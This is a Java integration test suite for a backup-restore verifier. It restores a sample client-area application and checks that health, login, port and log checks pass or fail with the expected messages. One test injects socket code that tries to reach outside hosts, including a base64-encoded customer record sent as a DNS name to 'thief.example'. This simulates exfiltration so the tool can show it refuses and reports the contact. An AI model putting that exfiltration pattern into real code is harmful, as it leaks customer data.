package io.restoreverifier.run;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.restoreverifier.model.Attachment;
import io.restoreverifier.model.CheckResult;
import io.restoreverifier.model.Finding;
import io.restoreverifier.model.Outcome;
import io.restoreverifier.model.Status;
import io.restoreverifier.model.Verdict;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Properties;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The sample company's client area: its database and its code are restored, and the service comes back, or does not. */
class ApplicationIT {
    private static final String HEALTH = "http: [{get: /health, status: 200, contains: ok}]";

    @TempDir
    Path folder;

    private ClientArea clientArea;

    @BeforeEach
    void declareAWholeOne() throws Exception {
        clientArea = new ClientArea(folder);
    }

    /** As the README says to run it. */
    @Test
    void theSampleCompanysApplicationsPass() throws Exception {
        Properties properties = new Properties();
        properties.setProperty("restore.catalog", "fixtures/applications");
        properties.setProperty("restore.sandbox", "docker");
        properties.setProperty("restore.report", folder.resolve("sample").toString());
        properties.setProperty("restore.history", folder.resolve("history").toString());
        try (RestoreRun run = RestoreRun.open(RunOptions.from(properties))) {
            run.begin();
            for (String entry : List.of(
                    "customer-database",
                    "clientarea-code",
                    "clientarea",
                    "billing-nightly",
                    "billing-code",
                    "billing")) {
                Outcome outcome = run.outcome(entry);
                assertThat(errors(outcome)).isEmpty();
                assertThat(outcome.verdict()).as(entry).isEqualTo(Verdict.PASSED);
            }
            assertThat(pictures(run.outcome("clientarea"))).containsExactly("screenshot of /customers");
            assertThat(pictures(run.outcome("billing"))).containsExactly("screenshot of /clients");
        }
    }

    private static List<String> pictures(Outcome outcome) {
        return outcome.attachments().stream()
                .filter(Attachment::isPicture)
                .map(Attachment::name)
                .toList();
    }

    @Test
    void databaseAndCodeOfTheSameNightComeBackAndAnswer() throws Exception {
        List<Outcome> all = clientArea.verifyAll("""
                http:
                  - {get: /health, contains: ok, headers: {cache-control: no-store}, within: 20s}
                  - {get: /customers, status: 303, headers: {location: /login}}
                  - {get: /login, contains: ["<form method=\\"post\\"", Sign in], lacks: Exception}
                  - {post: /login, form: {login: demo, password: fixture-only}, status: 303}
                  - {name: the list of customers, get: "/customers?page=1", matches: "<tr><td>\\\\d+</td>"}
                tcp: [5432]
                commands: [{name: the driver is there, run: "test -r ${CLASSES:-/tmp/classes}/clientarea/Main.class"}]
                logs: {lacks: ["SQLSTATE", "OutOfMemoryError"]}
                """);

        assertThat(all).extracting(Outcome::verdict).containsOnly(Verdict.PASSED);
        Outcome outcome = all.get(0);
        assertThat(outcome.findings()).extracting(Finding::message).isEmpty();
        assertThat(outcome.kind()).isEqualTo("application");
        assertThat(outcome.checks())
                .extracting(CheckResult::check, CheckResult::subject, CheckResult::status)
                .containsExactly(
                        tuple("http", "GET /health", Status.PASSED),
                        tuple("http", "GET /customers", Status.PASSED),
                        tuple("http", "GET /login", Status.PASSED),
                        tuple("http", "POST /login", Status.PASSED),
                        tuple("http", "the list of customers", Status.PASSED),
                        tuple("tcp", "port 5432", Status.PASSED),
                        tuple("commands", "the driver is there", Status.PASSED),
                        tuple("logs", "SQLSTATE", Status.PASSED),
                        tuple("logs", "OutOfMemoryError", Status.PASSED),
                        tuple("contacts", "", Status.PASSED),
                        tuple("runs", "", Status.PASSED),
                        tuple("rto", "", Status.PASSED));
        assertThat(outcome.stages())
                .extracting(stage -> stage.stage().label())
                .containsExactly("locate", "restore", "start", "check", "dispose");
        assertThat(outcome.notes())
                .anyMatch(note -> note.startsWith("critical path: the slowest part "))
                .contains("given by the operator, in no backup: file driver");
        assertThat(Files.readString(clientArea.report().resolve("report.json")))
                .contains("\"kind\" : \"application\"")
                .doesNotContain("fixture-only\"");
        assertThat(Files.readString(clientArea.report().resolve("digest.txt")))
                .contains("PASSED            clientarea ");
    }

    @Test
    void codeThatIsNewerThanTheSchemaIsFoundOut() throws Exception {
        clientArea.databaseOf("20261119");

        assertThat(errors(clientArea.verifyAlone("http: [{get: /health, contains: ok}, {get: /login}]")))
                .containsExactly("HTTP_FAILED GET /login: expected status 200, found status 500;"
                        + " its log names SQLSTATE 42P01 (a table is missing)");
    }

    @Test
    void theDatabaseOfTheOtherSystemIsFoundOut() throws Exception {
        clientArea.databaseOfBilling();

        assertThat(errors(clientArea.verifyAlone("http: [{get: /health, contains: ok}]")))
                .containsExactly(
                        "HTTP_FAILED GET /health: expected status 200, `ok`, found status 503, 12 bytes without"
                                + " `ok`; its log names SQLSTATE 08001 (the database cannot be reached)");
    }

    @Test
    void aSchemaThatIsNewerThanTheCodeIsFoundOut() throws Exception {
        clientArea.codeWith("Notices.java", "location || ': '", "site || ': '");

        assertThat(errors(clientArea.verifyAlone("http: [{get: /health, contains: ok}, {get: /login}]")))
                .containsExactly("HTTP_FAILED GET /login: expected status 200, found status 500;"
                        + " its log names SQLSTATE 42703 (a column is missing)");
    }

    @Test
    void aRoleThatDidNotComeBackIsFoundOut() throws Exception {
        clientArea.declared(text -> text.replace("user: billing_app", "user: clientarea_app"));

        assertThat(errors(clientArea.verifyAlone(HEALTH)))
                .containsExactly("ROLE_MISSING role clientarea_app, which the application logs in to database as, did"
                        + " not come back");
    }

    @Test
    void aPartThatFailedIsNamedAndNothingIsStarted() throws Exception {
        clientArea.write(
                "code.yml", """
                backup: clientarea-code
                source: {directory: %s, newest: "*.tar.gz"}
                restore: {files: {}}
                checks: {contains: [index.php]}
                """.formatted(Path.of("fixtures/backups/code").toAbsolutePath()));

        Outcome outcome = clientArea.verifyAll(HEALTH).get(0);

        assertThat(errors(outcome))
                .containsExactly(
                        "PART_FAILED part code, which is clientarea-code, FAILED: FILE_MISSING, no file that is"
                                + " not empty matches index.php");
        assertThat(outcome.stages()).extracting(stage -> stage.stage().label()).containsExactly("locate");
    }

    @Test
    void configurationThatNoBackupHoldsIsFoundOut() throws Exception {
        clientArea.withoutDatabase();
        clientArea.declared(text -> text.replace("PORT: \"8080\"", "PORT: \"\""));

        assertThat(errors(clientArea.verifyAlone(HEALTH)))
                .containsExactly("COMMAND_FAILED run: the application ended with status 1 before it listened on port"
                        + " 8080; its log names java.lang.IllegalArgumentException");
    }

    @Test
    void codeThatDoesNotCompileIsNotStarted() throws Exception {
        clientArea.withoutDatabase();
        clientArea.codeWith("Main.java", "server.start();", "server.begin();");

        Outcome outcome = clientArea.verifyAlone(HEALTH);

        assertThat(errors(outcome)).containsExactly("COMMAND_FAILED build: expected status 0, found status 1");
        assertThat(outcome.attachments())
                .anyMatch(attachment -> attachment.name().equals("output of: build")
                        && attachment.content().contains("server.begin();"));
    }

    /** What records contacts listens on the usual ports itself, once a name was asked for. */
    @Test
    void aFurtherPortIsNotTakenForOpenSinceContactsAreRecordedThere() throws Exception {
        clientArea.withoutDatabase();
        clientArea.declared(text -> text.replace("run: java", "run: getent hosts mail.company.example; java"));

        Outcome outcome = clientArea.verifyAlone("tcp: [443]");

        assertThat(errors(outcome))
                .containsExactly("NOT_READY port 443: expected the application to listen, found listening ports 8080");
    }

    @Test
    void aPortThatNeverOpensIsNotReady() throws Exception {
        clientArea.withoutDatabase();
        clientArea.declared(text -> text.replace("port: 8080", "port: 9090\n  ready: 5s"));

        assertThat(errors(clientArea.verifyAlone(HEALTH)))
                .containsExactly("NOT_READY run: expected the application to listen on port 9090 within 5.0s, found"
                        + " listening ports 8080");
    }

    @Test
    void onePartThatNeverGetsReadyIsWaitedForNoLongerThanItsLimit() throws Exception {
        clientArea.withoutDatabase();
        clientArea.codeWith(
                "Main.java",
                "ExecutorService threads",
                "java.util.concurrent.locks.LockSupport.parkNanos(300_000_000_000L);\n        ExecutorService threads");
        clientArea.declared(text -> text.replace("port: 8080", "port: 8080\n  ready: 3s"));

        assertThat(errors(clientArea.verifyAlone(HEALTH)))
                .containsExactly("NOT_READY run: expected the application to listen on port 8080 within 3.0s, found"
                        + " nobody listening");
    }

    @Test
    void anErrorPageWithStatus200IsNoAnswer() throws Exception {
        clientArea.withoutDatabase();
        clientArea.codeWith("Health.java", "503", "200");

        assertThat(errors(clientArea.verifyAlone(HEALTH)).get(0))
                .startsWith("HTTP_FAILED GET /health: expected status 200, `ok`, found 12 bytes without `ok`;"
                        + " its log names SQLSTATE 08001");
    }

    @Test
    void anAnswerBeyondItsLimitIsLate() throws Exception {
        clientArea.withoutDatabase();
        clientArea.codeWith(
                "Main.java",
                "request -> Response.redirect(\"/customers\")",
                "request -> { java.util.concurrent.locks.LockSupport.parkNanos(2_000_000_000L);"
                        + " return Response.redirect(\"/customers\"); }");

        assertThat(errors(clientArea.verifyAlone("http: [{get: /, status: 303, within: 1s}]"))
                        .get(0))
                .matches("HTTP_FAILED GET /: expected status 303, within 1\\.0s, found an answer after [2-9]\\.\\ds");
    }

    @Test
    void oneThatEndsWhenItIsAskedIsFoundOut() throws Exception {
        clientArea.withoutDatabase();
        clientArea.codeWith(
                "Main.java",
                "request -> Response.redirect(\"/customers\")",
                "request -> { Runtime.getRuntime().halt(3); return Response.redirect(\"/customers\"); }");

        assertThat(errors(clientArea.verifyAlone("http: [{get: /, status: 303}]")))
                .containsExactly(
                        "HTTP_FAILED GET /: expected status 303, found no answer: the connection ended",
                        "COMMAND_FAILED run: the application was ready and then ended with status 3");
    }

    @Test
    void whomItTriesToReachIsRefusedAndListed() throws Exception {
        clientArea.withoutDatabase();
        clientArea.codeWith("Main.java", "server.start();", """
                server.start();
                        for (String to : new String[] {"smtp.company.example:25", "api.payments.example:443",
                                "hooks.chat.example:80", "Q3VzdG9tZXIgbnVtYmVyIDEwNDI.thief.example:53", "203.0.113.7:80"}) {
                            int colon = to.indexOf(':');
                            try (java.net.Socket socket = new java.net.Socket()) {
                                socket.connect(new InetSocketAddress(to.substring(0, colon),
                                        Integer.parseInt(to.substring(colon + 1))), 2000);
                                System.out.println(socket.getInputStream().read() < 0 ? "hung up" : "REACHED");
                            } catch (IOException refused) {
                                System.out.println("refused");
                            }
                        }
                """);
        String listed = "the restored application tried to contact: ...thief.example, api.payments.example:443,"
                + " hooks.chat.example:80, smtp.company.example:25; it was refused";

        Outcome outcome =
                clientArea.verifyAlone("http: [{get: /login, status: 500}]\ncontacts: []\nlogs: {lacks: REACHED}");
        assertThat(errors(outcome)).containsExactly("CONTACTED_OUTSIDE " + listed);

        Outcome warned = clientArea.verifyAlone("http: [{get: /login, status: 500}]");
        assertThat(errors(warned)).isEmpty();
        assertThat(warned.findings()).extracting(Finding::message).contains(listed);
        assertThat(warned.verdict()).isEqualTo(Verdict.PASSED);
    }

    private static List<String> errors(Outcome outcome) {
        return outcome.findings().stream()
                .filter(Finding::isError)
                .map(finding -> finding.code() + " " + finding.message())
                .toList();
    }
}
